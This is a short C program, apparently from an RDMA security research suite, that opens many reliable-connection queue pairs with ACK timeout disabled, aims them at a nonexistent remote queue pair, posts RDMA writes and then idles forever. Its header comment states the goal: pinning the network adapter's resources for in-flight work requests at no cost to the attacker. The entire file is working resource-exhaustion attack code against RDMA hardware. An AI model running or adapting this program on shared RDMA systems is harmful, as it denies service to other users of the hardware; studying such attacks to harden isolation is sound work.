/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * windows N: N RC QPs without ACK timeout send to a QP that doesn't exist. They never get an answer, and keep what the engine lent them
 * for WQEs in flight, at no cost to this program.
 */
#include "stuck.h"
#include "vt.h"

#include <unistd.h>

enum { NOBODY = 0xfffff0, WQES = 4 };

static void
begin(struct vt *t, struct ibv_cq *cq)
{
	struct ibv_qp *qp = vt_qp(t, IBV_QPT_RC, cq, cq);
	struct ibv_qp_attr a;

	if (qp == NULL)
		attack_die("no QP");
	if (ibv_modify_qp(qp, &a, vt_attr_init(qp, &a)) != 0)
		attack_die("INIT");
	if (ibv_modify_qp(qp, &a, vt_attr_rtr(t, qp, NOBODY, &a)) != 0)
		attack_die("RTR");
	int mask = vt_attr_rts(qp, &a);

	a.timeout = 0;
	if (ibv_modify_qp(qp, &a, mask) != 0)
		attack_die("RTS");
	for (unsigned int i = 0; i < WQES; i++)
		vt_send(t, qp, IBV_WR_RDMA_WRITE, i, 8, IBV_SEND_SIGNALED);
}

int
main(int argc, char **argv)
{
	unsigned int n = argc > 1 ? (unsigned int)atoi(argv[1]) : 1024;
	struct ibv_cq *cq;
	struct vt t;

	vt_begin(&t);
	cq = vt_cq(&t, VT_DEPTH, NULL);
	for (unsigned int i = 0; i < n; i++)
		begin(&t, cq);
	attack_begun();
	for (;;)
		pause();
}
